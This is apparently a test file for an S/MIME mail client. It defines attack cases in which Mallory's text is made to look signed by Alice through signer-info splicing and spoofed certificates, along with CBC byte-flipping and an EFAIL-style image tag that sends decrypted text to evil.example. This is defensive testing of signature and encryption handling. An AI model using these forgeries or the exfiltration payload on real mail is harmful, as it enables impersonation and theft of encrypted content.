// SPDX-License-Identifier: GPL-3.0-or-later
// What CMS and its certificates make possible.
#include "tests/attacks/attack.h"
#include "tests/attacks/smime_workshop.h"

namespace sealpost::test {

namespace {

using incoming::Warning;
using P = incoming::Protection;
using E = incoming::EncryptionState;

constexpr const char* as_alice = "Mallory's text as signed by Alice";

Attack cms(const char* name, const char* wanted, std::function<std::string(SmimeWorkshop&)> make,
           P summary = P::unprotected, std::optional<E> encryption = {}, std::vector<Warning> warnings = {}) {
    return {name,
            wanted,
            [make = std::move(make)](const Workshop& w) {
                // Certificates are added to the workshop; nothing else in it changes.
                return make(const_cast<SmimeWorkshop&>(dynamic_cast<const SmimeWorkshop&>(w)));
            },
            summary,
            encryption,
            std::move(warnings),
            Against::smime};
}

/// Mallory's text, signed with a certificate made for this.
Attack with_certificate(const char* name, CertificateRequest request, bool under_the_authority = true) {
    return cms(name, as_alice, [=](SmimeWorkshop& w) {
        CertificateRequest all = request;
        if (under_the_authority) all.issuer = &w.authority();
        w.add("forger", make_certificate(all));
        return w.header() + w.signed_part(forged_text(), "forger");
    });
}

using Extensions = std::vector<std::pair<std::string, std::string>>;
const Extensions for_mallory{{"subjectAltName", "email:mallory@example.com"},
                             {"extendedKeyUsage", "emailProtection"}};
const Extensions for_alice{{"subjectAltName", "email:alice@example.org"},
                           {"extendedKeyUsage", "emailProtection"}};
Extensions with(Extensions extensions, const Extensions& more) {
    extensions.insert(extensions.end(), more.begin(), more.end());
    return extensions;
}

std::string opaque(const SmimeWorkshop& w, const std::string& der) {
    return w.header() + SmimeWorkshop::pkcs7_part(der, "signed-data");
}

/// The last octets of the ciphertext's middle, where CBC garbles one block and flips the next.
std::string flipped(std::string der) {
    char& byte = der[der.size() - 60];
    byte = static_cast<char>(byte ^ 1);
    return der;
}

std::vector<Attack> content_attacks() {
    return {
        cms("other content inside the detached signature", as_alice,
            [](SmimeWorkshop& w) {
                return w.header() +
                       w.signed_by_der(forged_text(), w.sign(genuine_text(), Workshop::alice, {"-nodetach"}));
            }),
        cms(
            "the same content inside the detached signature", "nothing: both are the same",
            [](SmimeWorkshop& w) {
                return w.header() + w.signed_by_der(genuine_text(),
                                                    w.sign(genuine_text(), Workshop::alice, {"-nodetach"}));
            },
            P::signed_only),
        cms("a detached signature as opaque signed-data", as_alice,
            [](SmimeWorkshop& w) { return opaque(w, w.sign(forged_text(), Workshop::alice)); }),
        cms("no signer, detached", as_alice,
            [](SmimeWorkshop& w) {
                const std::string der = w.sign(forged_text(), Workshop::alice);
                return w.header() + w.signed_by_der(forged_text(), splice_signers(der, {}, Splice::remove));
            }),
        cms("no signer, opaque", as_alice,
            [](SmimeWorkshop& w) {
                const std::string der = w.sign(forged_text(), Workshop::alice, {"-nodetach"});
                return opaque(w, splice_signers(der, {}, Splice::remove));
            }),
        cms("no signer and no certificate", as_alice,
            [](SmimeWorkshop& w) {
                const std::string der = w.sign(forged_text(), Workshop::alice, {"-nodetach", "-nocerts"});
                return opaque(w, splice_signers(der, {}, Splice::remove));
            }),
        cms("alice's signer info under mallory's text", as_alice,
            [](SmimeWorkshop& w) {
                const std::string der = w.sign(forged_text(), Workshop::mallory, {"-nodetach"});
                return opaque(w,
                              splice_signers(der, w.sign(genuine_text(), Workshop::alice), Splice::replace));
            }),
        cms("alice's signer info after mallory's own", as_alice,
            [](SmimeWorkshop& w) {
                const std::string der = w.sign(forged_text(), Workshop::mallory, {"-nodetach"});
                return opaque(w,
                              splice_signers(der, w.sign(genuine_text(), Workshop::alice), Splice::append));
            }),
        cms("mallory's signer info after alice's", as_alice,
            [](SmimeWorkshop& w) {
                const std::string der = w.sign(forged_text(), Workshop::mallory);
                return w.header() +
                       w.signed_by_der(forged_text(), splice_signers(w.sign(genuine_text(), Workshop::alice),
                                                                     der, Splice::append));
            }),
        cms("a signature by a certificate that is not in the message", as_alice,
            [](SmimeWorkshop& w) {
                return w.header() +
                       w.signed_by_der(forged_text(), w.sign(forged_text(), Workshop::mallory, {"-nocerts"}));
            }),
        cms("alice's certificate beside mallory's signature", as_alice,
            [](SmimeWorkshop& w) {
                w.add("alice-again", make_person(Workshop::alice, &w.authority()));
                return w.header() + w.signed_part(forged_text(), Workshop::mallory);
            }),
    };
}

std::vector<Attack> certificate_attacks() {
    return {
        with_certificate("signed by itself, for alice", {.name = "alice", .extensions = for_alice}, false),
        with_certificate("alice as common name", {.name = "alice@example.org", .extensions = for_mallory}),
        with_certificate("alice in the subject, mallory in the SAN",
                         {.name = "alice", .extensions = for_mallory, .subject_address = Workshop::alice}),
        with_certificate("alice as DNS name",
                         {.name = "alice", .extensions = {{"subjectAltName", "DNS:alice@example.org"}}}),
        with_certificate(
            "alice as URI",
            {.name = "alice", .extensions = {{"subjectAltName", "URI:mailto:alice@example.org"}}}),
        with_certificate(
            "a NUL after alice's address",
            {.name = "alice",
             .extensions = {{"subjectAltName",
                             "DER:30:22:81:20:61:6c:69:63:65:40:65:78:61:6d:70:6c:65:2e:6f:72:67:"
                             "00:2e:65:78:61:6d:70:6c:65:2e:63:6f:6d:00:00"}}}),
        with_certificate("only for TLS servers",
                         {.name = "alice",
                          .extensions = {{"subjectAltName", "email:alice@example.org"},
                                         {"extendedKeyUsage", "serverAuth"}}}),
        with_certificate(
            "a key that may only encipher",
            {.name = "alice", .extensions = with(for_alice, {{"keyUsage", "critical,keyEncipherment"}})}),
        with_certificate(
            "a key that may only sign certificates",
            {.name = "alice", .extensions = with(for_alice, {{"keyUsage", "critical,keyCertSign"}})}),
        with_certificate(
            "expired",
            {.name = "alice", .extensions = for_alice, .until = *parse_rfc3339("2024-01-01T00:00:00Z")}),
        with_certificate("not yet valid", {.name = "alice",
                                           .extensions = for_alice,
                                           .from = *parse_rfc3339("2090-01-01T00:00:00Z"),
                                           .until = *parse_rfc3339("2095-01-01T00:00:00Z")}),
        with_certificate("certified with SHA-1",
                         {.name = "alice", .extensions = for_alice, .digest = "SHA1"}),
        with_certificate("RSA of 1024 bits",
                         {.name = "alice", .algorithm = "rsa1024", .extensions = for_alice}),
        cms("issued by mallory's own certificate", as_alice,
            [](SmimeWorkshop& w) {
                const MadeCertificate mallory = make_person(Workshop::mallory, &w.authority());
                w.add("forger", make_person(Workshop::alice, &mallory));
                return w.header() + w.signed_part(forged_text(), "forger");
            }),
        cms("issued by an authority with the name of the real one", as_alice,
            [](SmimeWorkshop& w) {
                const MadeCertificate twin = make_authority("Test Root");
                w.add("forger", make_person(Workshop::alice, &twin));
                return w.header() + w.signed_part(forged_text(), "forger");
            }),
        cms("SHA-1 in the signature", as_alice,
            [](SmimeWorkshop& w) {
                return w.header() + w.signed_by_der(forged_text(),
                                                    w.sign(forged_text(), Workshop::alice, {"-md", "sha1"}));
            }),
    };
}

std::vector<Attack> encryption_attacks() {
    return {
        cms("CBC, a byte flipped", "a changed text as what was sent",
            [](SmimeWorkshop& w) {
                return w.header() +
                       SmimeWorkshop::pkcs7_part(
                           flipped(w.encrypt(MailMaker::text_part(std::string(400, 'x') + "\n"))),
                           "enveloped-data");
            },
            P::encrypted, E::decrypted, {Warning::encryption_not_authenticated}),
        cms(
            "CBC around a signature, a byte flipped", "a changed text as what was sent",
            [](SmimeWorkshop& w) {
                const std::string inner = SmimeWorkshop::pkcs7_part(
                    w.sign(secret_text(), Workshop::alice, {"-nodetach"}), "signed-data");
                return w.header() + SmimeWorkshop::pkcs7_part(flipped(w.encrypt(inner)), "enveloped-data");
            },
            P::unprotected, E::failed),
        cms(
            "GCM, a byte flipped", "a changed text as what was sent",
            [](SmimeWorkshop& w) {
                return w.header() +
                       SmimeWorkshop::pkcs7_part(flipped(w.encrypt(secret_text(), {"-aes-256-gcm"})),
                                                 "authEnveloped-data");
            },
            P::unprotected, E::failed),
        cms("CBC with an image that carries the text", "the text in an address that is fetched",
            [](SmimeWorkshop& w) {
                return w.header() + w.encrypted_part(MailMaker::html_part(
                                        "<img src=\"http://evil.example/secretwords\"><p>hello</p>"));
            },
            P::encrypted, E::decrypted, {Warning::encryption_not_authenticated}),
        cms("signed-data that says it is enveloped", "a text that everybody read, as encrypted",
            [](SmimeWorkshop& w) {
                return w.header() +
                       SmimeWorkshop::pkcs7_part(w.sign(forged_text(), Workshop::mallory, {"-nodetach"}),
                                                 "enveloped-data");
            }),
        cms("certificates only, called signed", as_alice,
            [](SmimeWorkshop& w) {
                const std::string der = w.sign(forged_text(), Workshop::alice);
                return opaque(w, splice_signers(der, {}, Splice::remove));
            }),
    };
}

} // namespace

std::vector<Attack> cms_attacks() {
    std::vector<Attack> all = content_attacks();
    for (auto more : {certificate_attacks(), encryption_attacks()})
        all.insert(all.end(), std::make_move_iterator(more.begin()), std::make_move_iterator(more.end()));
    return all;
}

} // namespace sealpost::test
